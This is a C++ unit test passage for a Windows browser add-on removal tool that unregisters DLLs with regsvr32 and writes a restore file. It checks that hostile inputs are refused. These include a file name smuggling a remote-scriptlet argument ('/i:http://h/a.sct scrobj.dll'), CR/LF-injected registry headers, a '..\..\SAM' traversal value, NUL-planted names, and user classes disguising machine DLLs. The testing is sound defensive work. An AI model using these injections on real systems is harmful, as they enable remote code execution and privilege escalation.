        {"C:\\check\\q.dll\" /n /i:http://h/a.sct scrobj.dll \"", nullptr, nullptr,
         head + "C:\\check\\q.dll\" /n /i:http://h/a.sct scrobj.dll \"（文件名含有引号、控制字符或以反斜杠结尾，会改变命令行）"},
        {"C:\\Program Files\\a\\", nullptr, nullptr,
         head + "C:\\Program Files\\a\\（文件名含有引号、控制字符或以反斜杠结尾，会改变命令行）"},
        {"C:\\Program Files\\a.dll\r\n[HKEY_LOCAL_MACHINE\\X]", nullptr, nullptr,
         head + "C:\\Program Files\\a.dll??[HKEY_LOCAL_MACHINE\\X]（文件名含有引号、控制字符或以反斜杠结尾，会改变命令行）"},
        {"C:\\Program Files\\..\\Users\\test\\x.dll", nullptr, nullptr,
         head + "C:\\Program Files\\..\\Users\\test\\x.dll（不是完整的本地文件路径）"},
        {"C:\\Users\\test\\AppData\\bar.dll", nullptr, nullptr,
         head + "C:\\Users\\test\\AppData\\bar.dll（文件不在 Windows 或 Program Files 文件夹中，普通用户也能改写，不以管理员身份加载）"},
        {"C:\\Windows\\Temp\\bar.dll", nullptr, nullptr,
         head + "C:\\Windows\\Temp\\bar.dll（文件不在 Windows 或 Program Files 文件夹中，普通用户也能改写，不以管理员身份加载）"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.machineFile ? c.machineFile : "(none)");
        testing::FakePlatform fakes;
        FakeRegistry& registry = fakes.registry;
        RegKey::Create(registry, kHkeyLocalMachine, kToolbarKey).SetString("{T}", "");
        RegKey::Create(registry, kHkeyLocalMachine, kToolbarKey).SetString("{U}", "");
        if (c.machineFile) {
            RegKey::Create(registry, kHkeyLocalMachine, "Software\\Classes\\CLSID\\{T}\\InprocServer32")
                .SetString("", c.machineFile);
            // What the class names, which its own unregistration may take.
            for (const auto& [sub, name] : {std::pair{"ProgID", "Bar.Tool.1"},
                                            {"VersionIndependentProgID", "Bar.Tool"},
                                            {"TypeLib", "{L}"},
                                            {"Implemented Categories", "..\\..\\SAM"}}) {
                RegKey::Create(registry, kHkeyLocalMachine, std::string("Software\\Classes\\CLSID\\{T}\\") + sub)
                    .SetString("", name);
                RegKey::Create(registry, kHkeyLocalMachine,
                               std::string("Software\\Classes\\") + (sub == std::string("TypeLib") ? "TypeLib\\" : "") + name)
                    .SetString("", "x");
            }
        }
        if (c.userFile)
            RegKey::Create(registry, kHkeyCurrentUser, "Software\\Classes\\CLSID\\{T}\\InprocServer32")
                .SetString("", c.userFile);
        // The row as the list shows it: the class Windows 7 shows.
        std::vector<AddonRow> rows = ScanAddons(registry, false, fakes.codec);
        ASSERT_EQ(rows.size(), 2u);
        ASSERT_EQ(rows[0].name.Shown(), "{T}");
        EXPECT_EQ(rows[0].file, c.userFile ? c.userFile : c.machineFile);
        const auto user = tvtest::DumpTree(registry, kHkeyCurrentUser, "Software");

        RemoveAddons(fakes.Get(), {rows[0]});

        EXPECT_TRUE(fakes.shell.Commands().empty());
        if (c.started) {
            ASSERT_EQ(fakes.shell.Processes().size(), 1u);
            EXPECT_EQ(fakes.shell.Processes()[0].application, tool);
            EXPECT_EQ(fakes.shell.Processes()[0].commandLine,
                      "\"" + tool + "\" /u /s \"" + c.started + "\"");
        } else {
            EXPECT_TRUE(fakes.shell.Processes().empty());
        }
        EXPECT_EQ(RegKey::Open(registry, kHkeyLocalMachine, kToolbarKey, kKeyRead).ValueNames(),
                  std::vector<std::string>{"{U}"});
        // The user's class is not touched, so not kept either.
        EXPECT_EQ(tvtest::DumpTree(registry, kHkeyCurrentUser, "Software"), user);

        std::vector<FolderEntry> kept;
        fakes.files.ListFolder(RestoreFolderPath(fakes.Get()), &kept);
        ASSERT_EQ(kept.size(), 1u);
        const std::string bytes = fakes.files.Contents(RestoreFolderPath(fakes.Get()) + "\\" + kept[0].name.Shown());
        std::u16string text = utf16::FromBytes(std::string_view(bytes).substr(2));
        const std::string ansi = fakes.codec.WideToAnsi(text);
        std::vector<std::string> notes;
        for (std::size_t at = ansi.find("\r\n; "); at != std::string::npos; at = ansi.find("\r\n; ", at + 1)) {
            const std::string line = ansi.substr(at + 2, ansi.find("\r\n", at + 2) - at - 2);
            if (line.rfind(head, 0) == 0) notes.push_back(line);
        }
        EXPECT_EQ(notes, c.note.empty() ? std::vector<std::string>{} : std::vector<std::string>{c.note});
        // The machine's class key is kept only where the tool may take it
        // away, under its own root.
        EXPECT_EQ(ansi.find("HKEY_CLASSES_ROOT"), std::string::npos);
        EXPECT_EQ(ansi.find("\r\n[HKEY_LOCAL_MACHINE\\Software\\Classes\\CLSID\\{T}]\r\n") != std::string::npos,
                  c.started != nullptr);
        EXPECT_EQ(ansi.find("HKEY_CURRENT_USER\\Software\\Classes"), std::string::npos);
        // With the tool started: the command that registers the file again,
        // and the keys the class names, each by its single name.
        for (const std::string& kept : {std::string("; 如需重新注册该文件，请以管理员身份运行：\"") + tool +
                                            "\" /s \"" + (c.started ? c.started : "") + "\"",
                                        std::string("[HKEY_LOCAL_MACHINE\\Software\\Classes\\Bar.Tool.1]"),
                                        std::string("[HKEY_LOCAL_MACHINE\\Software\\Classes\\Bar.Tool]"),
                                        std::string("[HKEY_LOCAL_MACHINE\\Software\\Classes\\TypeLib\\{L}]")})
            EXPECT_EQ(ansi.find("\r\n" + kept + "\r\n") != std::string::npos, c.started != nullptr) << kept;
        EXPECT_EQ(ansi.find("SAM]"), std::string::npos);
    }
}

// A name a line of the restore file cannot carry fails the backup: nothing
// is unregistered or deleted, and the user is told.
TEST_F(AddonRemovalTest, ANameTheRestoreFileCannotCarryStopsTheRemoval) {
    struct Case {
        const char* label;
        AddonRow row;
        void (*add)(FakeRegistry&);
    } cases[] = {
        {"toolbar value name", {"{T\nX}", "Bar", kToolbarType, "", 0},
         [](FakeRegistry& r) { RegKey::Create(r, kHkeyLocalMachine, kToolbarKey).SetString("{T\nX}", ""); }},
        {"value in a helper's key", {"{B1}", "Helper", kHelperType, "", 1},
         [](FakeRegistry& r) {
             RegKey::Create(r, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{B1}").SetString("a\rb", "");
         }},
        {"key in a helper's key", {"{B2}", "Helper", kHelperType, "", 1},
         [](FakeRegistry& r) { RegKey::Create(r, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{B2}\\a\nb"); }},
        {"value in the class key", {"{T2}", "", kToolbarType, ClassFile("{T2}"), 0},
         [](FakeRegistry& r) {
             RegKey::Create(r, kHkeyLocalMachine, "Software\\Classes\\CLSID\\{T2}").SetString("x\ny", "");
         }},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.label);
        SetUp();
        fakes_.prompter.Clear();
        c.add(registry_);
        const auto machine = Dump(kHkeyLocalMachine, "SOFTWARE");
        Remove({c.row});
        EXPECT_TRUE(fakes_.shell.Processes().empty());
        ASSERT_EQ(fakes_.prompter.Prompts().size(), 1u);
        EXPECT_EQ(fakes_.prompter.Prompts()[0].text, kRestoreFailedMessage);
        EXPECT_EQ(Dump(kHkeyLocalMachine, "SOFTWARE"), machine);
    }
}

// The tool runs only for a row the machine registered and shows as the
// machine's own class; every other row loses only its entry, and the
// restore file says why. A search hook of the user's naming a machine
// server, shown under a made-up name from a class of the user's, is the
// disguise: the machine's DLL must not be unregistered.
TEST_F(AddonRemovalTest, OnlyAMachineRowShowingTheMachinesClassStartsTheTool) {
    const std::string tool = "C:\\Windows\\system32\\regsvr32.exe";
    const std::string server = "C:\\Windows\\system32\\shell32.dll";
    const std::string head = "; 未反注册文件：";
    struct Case {
        const char* label;
        const char* typeText;      // the row's source
        bool userClass;            // a class of the user's of the same id
        const char* machineName;   // the machine class's display name
        bool started;
        std::string note;
    } cases[] = {
        {"genuine machine toolbar", kToolbarType, false, "Shell Tool", true, ""},
        {"genuine machine helper", kHelperType, false, "", true, ""},
        {"user's search hook over a machine class, shown from a user class", kHookType, true, "Shell Tool",
         false, head + "C:\\Users\\test\\made-up.dll（这个插件由当前用户登记，只删除它的登记，不以管理员身份加载它的文件）"},
        {"user's search hook naming the machine class as it is", kHookType, false, "Shell Tool", false,
         head + server + "（这个插件由当前用户登记，只删除它的登记，不以管理员身份加载它的文件）"},
        {"machine toolbar disguised by a user class", kToolbarType, true, "Shell Tool", false,
         head + "C:\\Users\\test\\made-up.dll（显示的名称或文件来自当前用户注册的类，只删除它的登记，不以管理员身份加载它的文件）"},
        {"machine helper disguised by a user class", kHelperType, true, "", false,
         head + "C:\\Users\\test\\made-up.dll（显示的名称或文件来自当前用户注册的类，只删除它的登记，不以管理员身份加载它的文件）"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.label);
        testing::FakePlatform fakes;
        FakeRegistry& registry = fakes.registry;
        const bool hook = c.typeText == std::string(kHookType);
        const bool helper = c.typeText == std::string(kHelperType);
        if (hook) RegKey::Create(registry, kHkeyCurrentUser, kHooksKey).SetString("{S}", "");
        else if (helper) RegKey::Create(registry, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{S}");
        else RegKey::Create(registry, kHkeyLocalMachine, kToolbarKey).SetString("{S}", "");
        RegKey::Create(registry, kHkeyLocalMachine, "Software\\Classes\\CLSID\\{S}").SetString("", c.machineName);
        RegKey::Create(registry, kHkeyLocalMachine, "Software\\Classes\\CLSID\\{S}\\InprocServer32")
            .SetString("", server);
        if (c.userClass) {
            RegKey::Create(registry, kHkeyCurrentUser, "Software\\Classes\\CLSID\\{S}").SetString("", "Made Up");
            RegKey::Create(registry, kHkeyCurrentUser, "Software\\Classes\\CLSID\\{S}\\InprocServer32")
                .SetString("", "C:\\Users\\test\\made-up.dll");
        }
        fakes.environment.systemVariables =
            std::vector<std::u16string>{u"SystemRoot=C:\\Windows", u"windir=C:\\Windows", u"Path=C:\\Windows\\system32"};
        // The row as the list shows it.
        std::vector<AddonRow> rows = ScanAddons(registry, false, fakes.codec);
        ASSERT_EQ(rows.size(), 1u);
        EXPECT_EQ(rows[0].displayName, c.userClass ? "Made Up" : c.machineName);
        const auto machine = tvtest::DumpTree(registry, kHkeyLocalMachine, "Software\\Classes");
        const auto userClasses = tvtest::DumpTree(registry, kHkeyCurrentUser, "Software\\Classes");

        RemoveAddons(fakes.Get(), rows);

        EXPECT_TRUE(fakes.shell.ExactProcesses().empty());
        EXPECT_EQ(fakes.shell.Processes().size(), c.started ? 1u : 0u);
        if (c.started && fakes.shell.Processes().size() == 1) {
            const FakeShell::Process& started = fakes.shell.Processes()[0];
            EXPECT_EQ(started.application, tool);
            EXPECT_EQ(started.commandLine, "\"" + tool + "\" /u /s \"" + server + "\"");
            EXPECT_EQ(started.showCommand, kSwHide);
            // The system's own variables, exactly: nothing of this process's.
            EXPECT_EQ(started.environment, fakes.environment.systemVariables);
        }
        // The entry is gone either way; no class key is touched.
        EXPECT_TRUE(RegKey::Open(registry, kHkeyCurrentUser, kHooksKey, kKeyRead).ValueNames().empty());
        EXPECT_TRUE(RegKey::Open(registry, kHkeyLocalMachine, kToolbarKey, kKeyRead).ValueNames().empty());
        EXPECT_FALSE(RegKey::Open(registry, kHkeyLocalMachine, std::string(kHelpersKey) + "\\{S}", kKeyRead));
        EXPECT_EQ(tvtest::DumpTree(registry, kHkeyLocalMachine, "Software\\Classes"), machine);
        EXPECT_EQ(tvtest::DumpTree(registry, kHkeyCurrentUser, "Software\\Classes"), userClasses);

        std::vector<FolderEntry> kept;
        fakes.files.ListFolder(RestoreFolderPath(fakes.Get()), &kept);
        ASSERT_EQ(kept.size(), 1u);
        const std::string bytes = fakes.files.Contents(RestoreFolderPath(fakes.Get()) + "\\" + kept[0].name.Shown());
        const std::string text = fakes.codec.WideToAnsi(utf16::FromBytes(std::string_view(bytes).substr(2)));
        std::vector<std::string> notes;
        for (std::size_t at = text.find("\r\n; "); at != std::string::npos; at = text.find("\r\n; ", at + 1)) {
            const std::string line = text.substr(at + 2, text.find("\r\n", at + 2) - at - 2);
            if (line.rfind(head, 0) == 0) notes.push_back(line);
        }
        EXPECT_EQ(notes, c.note.empty() ? std::vector<std::string>{} : std::vector<std::string>{c.note});
        // The machine's class is kept only where the tool may take it.
        EXPECT_EQ(text.find("[HKEY_LOCAL_MACHINE\\Software\\Classes\\CLSID\\{S}]") != std::string::npos,
                  c.started);
    }
}

// Without the system's own variables the tool is not started (it would
// get this process's, which the user chose): the entry still goes, and the
// restore file says why.
TEST_F(AddonRemovalTest, WithoutTheSystemsVariablesTheToolIsNotStarted) {
    fakes_.environment.systemVariables.reset();
    Remove({{"{T2}", "", kToolbarType, ClassFile("{T2}"), 0}});
    EXPECT_TRUE(fakes_.shell.Processes().empty());
    EXPECT_TRUE(fakes_.shell.ExactProcesses().empty());
    EXPECT_EQ(RegKey::Open(registry_, kHkeyLocalMachine, kToolbarKey, kKeyRead).ValueNames(),
              std::vector<std::string>{"{T1}"});
    EXPECT_TRUE(HasLine(RestoreText(), "; 未反注册文件：" + ClassFile("{T2}") + "（无法取得系统的环境变量）"));
}

// A registration whose name has a NUL in it ("{T1}" + NUL + "x", planted
// beside the real "{T1}") would be cut by every call: the real one would
// be kept, unregistered and deleted. Nothing at all is done for the click.
TEST_F(AddonRemovalTest, ANameWithANulIsRefusedAndNothingIsTouched) {
    const std::u16string planted(u"{T1}\0x", 6);
    RegKey bars = RegKey::Create(registry_, kHkeyLocalMachine, kToolbarKey);
    ASSERT_EQ(registry_.SetValueCountedW(bars.Handle(), planted, kRegSz, "\0\0", 2), kErrorSuccess);
    const RegKey hooks = RegKey::Create(registry_, kHkeyCurrentUser, kHooksKey);
    ASSERT_EQ(registry_.SetValueCountedW(hooks.Handle(), std::u16string(u"{H1}\0x", 6), kRegSz, "\0\0", 2),
              kErrorSuccess);
    std::vector<AddonRow> rows;
    for (const AddonRow& row : ScanAddons(registry_, false, fakes_.codec))
        if (row.name.Stored().size() == 6) rows.push_back(row);
    ASSERT_EQ(rows.size(), 2u);
    struct Case {
        const char* label;
        std::vector<AddonRow> ticked;
    } cases[] = {
        {"toolbar", {rows[1]}},
        {"search hook", {rows[0]}},
        {"toolbar as the list reads it back, with a row without a NUL", {rows[1], {"{T2}", "", kToolbarType, ClassFile("{T2}"), 0}}},
    };
    // The list's cell stops at the NUL; the exact name is the scan's.
    cases[2].ticked[0].name = EntryName("{T1}", cases[2].ticked[0].name.Stored());
    for (const Case& c : cases) {
        SCOPED_TRACE(c.label);
        fakes_.prompter.Clear();
        const auto machine = Dump(kHkeyLocalMachine, "SOFTWARE");
        const auto user = Dump(kHkeyCurrentUser, "Software");
        Remove(c.ticked);
        std::vector<std::string> told;
        for (const Prompt& p : fakes_.prompter.Prompts()) told.push_back(p.text);
        EXPECT_EQ(told, std::vector<std::string>{"该项目的名称含有无法处理的字符，本次没有做任何更改。"});
        EXPECT_TRUE(fakes_.shell.Processes().empty());
        EXPECT_TRUE(fakes_.shell.ExactProcesses().empty());
        EXPECT_EQ(Dump(kHkeyLocalMachine, "SOFTWARE"), machine);
        EXPECT_EQ(Dump(kHkeyCurrentUser, "Software"), user);
        std::vector<FolderEntry> kept;
        fakes_.files.ListFolder(RestoreFolderPath(fakes_.Get()), &kept);
        EXPECT_TRUE(kept.empty());
    }
}

}  // namespace
}  // namespace tv
